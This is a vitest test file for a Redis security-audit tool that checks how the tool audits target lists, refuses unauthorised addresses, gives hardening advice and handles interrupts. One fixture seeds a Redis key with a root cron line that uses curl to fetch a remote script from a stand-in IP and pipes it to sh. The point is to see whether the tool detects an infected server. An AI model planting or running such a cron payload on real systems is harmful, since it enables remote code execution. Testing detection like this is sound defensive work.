import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { auditAll } from '../src/cli/audit/run.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { systemClock } from '../src/platform/clock.ts';
import { systemRandom } from '../src/platform/random.ts';
import { temporaryData } from './peers/data-folder.ts';
import { testKnowledge } from './peers/hostile-knowledge.ts';
import type { HostileRedis } from './peers/hostile-redis.ts';
import { startHostile } from './peers/hostile-redis.ts';
import { freePort } from './peers/ports.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';
import { startSundew, sundew } from './peers/sundew.ts';

async function peer(options: Parameters<typeof startHostile>[0] = {}): Promise<HostileRedis> {
  const started = await startHostile(options);
  onTestFinished(() => started.stop());
  return started;
}
async function realRedis(...settings: string[]): Promise<RealRedis> {
  const server = await startRedis(...settings);
  onTestFinished(() => server.stop());
  return server;
}
function file(...lines: string[]): string {
  const folder = mkdtempSync(join(tmpdir(), 'sundew-targets-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const path = join(folder, 'servers.txt');
  writeFileSync(path, lines.join('\r\n'));
  return path;
}

describe('an audit of a list', () => {
  test('asks each server once, whatever the line ends, and sums up last', async () => {
    const server = await realRedis();
    await server.client.set('x1', '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/a.sh | sh\n\n');
    const closed = await freePort();
    const list = file(
      '# ours',
      `redis://127.0.0.1:${server.port}`,
      `127.0.0.1:${server.port}   # again`,
      '',
      `127.0.0.1:${closed}`,
      'what is this?',
    );

    const { out, err, code } = await sundew(['audit', '--targets', list], temporaryData());

    expect(code).toBe(1);
    expect(err).toContain('1 named more than once');
    const lines = out.trimEnd().split('\n');
    // What did not answer is one line.
    expect(lines.filter((line) => line.includes(String(closed)))).toHaveLength(1);
    expect(lines.filter((line) => / bad-target +\?/.test(line))).toHaveLength(1);
    expect(lines.at(-6)).toMatch(/^3 servers: 1 \S+, 1 \S+, 1 \S+$/);
    expect(lines.at(-5)).toMatch(new RegExp(`infected +1 +redis://127.0.0.1:${server.port}$`));
  });

  test('names no stranger of IPv6 without an authorisation either', async () => {
    const near = await peer();

    const { code, err } = await sundew(
      ['audit', `127.0.0.1:${near.port}`, '[2001:db8::1]:6379'],
      temporaryData(),
    );

    expect(code).toBe(3);
    expect(err).toContain('redis://[2001:db8::1]:6379. Nothing was sent.');
    expect(near.received()).toBe('');
  });

  test('gives advice that reaches the server that was asked', async () => {
    const server = await realRedis('--protected-mode', 'no', '--bind', '* -::*');

    const { out } = await sundew(['audit', `127.0.0.1:${server.port}`], temporaryData());

    expect(out).toContain(`redis-cli -h 127.0.0.1 -p ${server.port} ACL SETUSER default resetpass`);
    expect(out).not.toMatch(/redis-cli [A-Z]/);
  });

  test('when interrupted it reports what it has, and ends with 4', async () => {
    const silent = await peer({ answer: () => undefined });
    const running = startSundew(['audit', `127.0.0.1:${silent.port}`, '--json'], temporaryData());
    await expect.poll(() => silent.commands.length, { timeout: 20_000 }).toBe(1);

    const { code, out } = await running.stop('SIGINT');

    expect(code).toBe(4);
    expect(JSON.parse(out)).toMatchObject([{ outcome: 'partial' }]);
  });

  test('does not dial later a name that had no address when it was judged', async () => {
    const reports: AuditReport[] = [];
    const quiet = {
      out: () => Promise.resolve(),
      err: () => undefined,
      status: () => undefined,
      interactive: false,
      colour: { out: false, err: false },
      width: 0,
    };

    await auditAll(
      [{ text: 'redis://nobody.invalid:6379', host: 'nobody.invalid', port: 6_379, tls: false }],
      testKnowledge(),
      { concurrency: 1, each: (report) => void reports.push(report) },
      {
        terminal: quiet,
        clock: systemClock,
        random: systemRandom,
        version: '0',
        signal: new AbortController().signal,
      },
    );

    expect(reports).toMatchObject([{ outcome: 'unreachable', commandsSent: {} }]);
  });
});

describe('a study', () => {
  test('opens the file for reports before it asks anybody', async () => {
    const near = await peer();

    const { code, err } = await sundew(
      ['study', `127.0.0.1:${near.port}`, '--out', '/nowhere/reports.ndjson'],
      temporaryData(),
    );

    expect(code).toBe(2);
    expect(err).toContain('/nowhere/reports.ndjson cannot be written');
    expect(near.received()).toBe('');
  });

  test('does not count a server that was interrupted before it answered', async () => {
    const silent = await peer({ answer: () => undefined });
    const running = startSundew(['study', `127.0.0.1:${silent.port}`, '--json'], temporaryData());
    await expect.poll(() => silent.commands.length, { timeout: 20_000 }).toBe(1);

    const { code, out, err } = await running.stop('SIGINT');

    expect(code).toBe(4);
    expect(JSON.parse(out)).toMatchObject({ servers: { asked: 0, responded: 0 } });
    expect(err).toContain('the table is of 0 of 1 servers');
  });
});
